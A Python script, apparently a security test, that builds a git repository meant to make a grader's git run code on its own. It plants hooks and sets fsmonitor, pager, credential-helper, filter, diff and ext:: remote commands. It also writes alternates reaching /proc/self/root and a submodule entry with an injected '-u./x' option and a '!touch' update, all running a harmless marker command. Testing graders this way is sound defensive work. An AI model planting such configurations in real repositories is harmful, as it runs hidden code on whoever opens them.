"""A repository that runs code of its own as soon as the grader's git looks at it."""
import os
import subprocess

from attack import left, refused, write

MARK = "touch /tmp/taskmint-attack-ran"
HOOKS = ("post-checkout", "pre-commit", "post-commit", "post-merge", "pre-push",
         "post-index-change", "reference-transaction", "fsmonitor-watchman", "pre-auto-gc",
         "post-rewrite", "applypatch-msg", "pre-applypatch", "prepare-commit-msg",
         "sendemail-validate")
CONFIG = f"""[core]
    fsmonitor = {MARK}
    sshCommand = {MARK}
    pager = {MARK}
    editor = {MARK}
    hooksPath = .git/hooks
    gitProxy = {MARK}
    alternateRefsCommand = {MARK}
    worktree = /tmp
[filter "attack"]
    clean = {MARK}
    smudge = {MARK}
    process = {MARK}
[diff "attack"]
    command = {MARK}
    textconv = {MARK}
[merge "attack"]
    driver = {MARK}
[diff]
    external = {MARK}
[credential]
    helper = !{MARK}
[uploadpack]
    packObjectsHook = {MARK}
[protocol "ext"]
    allow = always
[remote "origin"]
    url = ext::{MARK}
[alias]
    status = !{MARK}
[include]
    path = /tmp/.gitconfig-attack
[gpg]
    program = {MARK}
"""
try:
    subprocess.run(["git", "init", "-q", "."], check=True, capture_output=True)
except (OSError, subprocess.CalledProcessError) as error:
    refused("git init", error)
os.makedirs(".git/hooks", exist_ok=True)
for hook in HOOKS:
    write(f".git/hooks/{hook}", f"#!/bin/sh\n{MARK}\n")
    os.chmod(f".git/hooks/{hook}", 0o755)
write(".git/config", CONFIG)
write(".gitattributes", "* filter=attack diff=attack merge=attack\n")
write(".git/info/attributes", "* filter=attack\n")
write(".git/objects/info/alternates", "/tmp\n../../../../../../tmp\n/proc/self/root\n")
write(".gitmodules", '[submodule "a"]\n\tpath = -u./x\n\turl = -u./x\n\tupdate = !touch /tmp/x\n')
write("bare/HEAD", "ref: refs/heads/main\n")
write("bare/config", CONFIG)
os.makedirs("bare/objects", exist_ok=True)
os.makedirs("bare/refs", exist_ok=True)
write("worktree/.git", "gitdir: ../bare\n")
write("elsewhere/.git", "gitdir: /tmp/taskmint-attack-git\n")
try:
    os.symlink("/tmp", ".git/lfs")
except OSError as error:
    refused("a link in .git", error)
left(f"a repository with {len(HOOKS)} hooks, filters and drivers that would {MARK}")
